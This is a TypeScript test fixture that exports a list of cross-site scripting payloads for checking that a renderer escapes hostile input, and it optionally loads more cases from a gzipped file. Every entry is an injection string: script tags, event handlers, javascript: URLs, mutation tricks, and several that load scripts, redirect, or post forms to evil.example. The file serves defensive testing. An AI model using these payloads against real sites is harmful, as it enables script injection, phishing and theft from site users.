import { readFileSync } from 'node:fs';
import { gunzipSync } from 'node:zlib';

/**
 * What a hostile author, customer register or colleague could write: each leaves an element or attribute named `evil`,
 * an event handler, a script or an address that runs, unless it is escaped where it is shown.
 */
export const PAYLOADS: readonly string[] = [
  // Elements
  '<script evil>alert(1)</script>',
  '<SCRIPT evil SRC=//evil.example/x.js></SCRIPT>',
  '<img evil src=x onerror=alert(1)>',
  '<svg evil onload=alert(1)>',
  '<svg evil><script>alert(1)</script></svg>',
  '<svg evil><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math evil><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<iframe evil src="javascript:alert(1)"></iframe>',
  '<iframe evil srcdoc="<script>alert(1)</script>"></iframe>',
  '<object evil data="javascript:alert(1)"></object>',
  '<embed evil src="javascript:alert(1)">',
  '<base evil href="https://evil.example/">',
  '<link evil rel=stylesheet href=https://evil.example/x.css>',
  '<style evil>body{display:none}</style>',
  '<meta evil http-equiv=refresh content="0;url=https://evil.example">',
  '<form evil action="https://evil.example"><button>log in</button></form>',
  '<button evil formaction="javascript:alert(1)">x</button>',
  '<input evil autofocus onfocus=alert(1)>',
  '<details evil open ontoggle=alert(1)>',
  '<video evil><source onerror=alert(1)></video>',
  '<marquee evil onstart=alert(1)>x</marquee>',
  '<a evil href="javascript:alert(1)">x</a>',
  '<a evil href="&#106;avascript:alert(1)">x</a>',
  '<template evil><script>alert(1)</script></template>',
  '<div evil style="position:fixed;inset:0">x</div>',
  // Out of an attribute
  '" evil onmouseover="alert(1)',
  "' evil onmouseover='alert(1)",
  '` evil onmouseover=`alert(1)',
  '" evil autofocus onfocus=alert(1) x="',
  '"><script evil>alert(1)</script>',
  "'><img evil src=x onerror=alert(1)>",
  // Out of an element
  '</title><script evil>alert(1)</script>',
  '</textarea><script evil>alert(1)</script>',
  '</option></select><script evil>alert(1)</script>',
  '</pre></mark></p></article><script evil>alert(1)</script>',
  '--><script evil>alert(1)</script><!--',
  ']]><script evil>alert(1)</script>',
  '<!--<script evil>',
  // Half and mutating
  '<img evil src=x onerror=alert(1)//',
  '<scr<script evil>ipt>alert(1)</scr</script>ipt>',
  '<noscript><p title="</noscript><img evil src=x onerror=alert(1)>">',
  '<svg><style><img evil src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><img evil src=x onerror=alert(1)>',
  // Already escaped: must not be unescaped on the way
  '&lt;script evil&gt;alert(1)&lt;/script&gt;',
  '&amp;lt;img evil src=x onerror=alert(1)&amp;gt;',
  '\\u003cscript evil\\u003ealert(1)\\u003c/script\\u003e',
  // Templates and odd characters
  '#{alert(1)}{{evil}}<%= evil %>',
  '\u202e<img evil src=x onerror=alert(1)>\u2066',
  '＜script evil＞alert(1)＜/script＞',
  'javascript:alert(1)//<b evil>',
];

const FILE = process.env.XSS_CASES;

/** More of them: a gzipped file of JSON lines, each with `html`, whose path stands in XSS_CASES. */
export const MORE_PAYLOADS: readonly string[] = FILE
  ? gunzipSync(readFileSync(FILE))
      .toString()
      .split('\n')
      .filter((line) => line !== '')
      .map((line) => (JSON.parse(line) as { html: string }).html)
  : [];
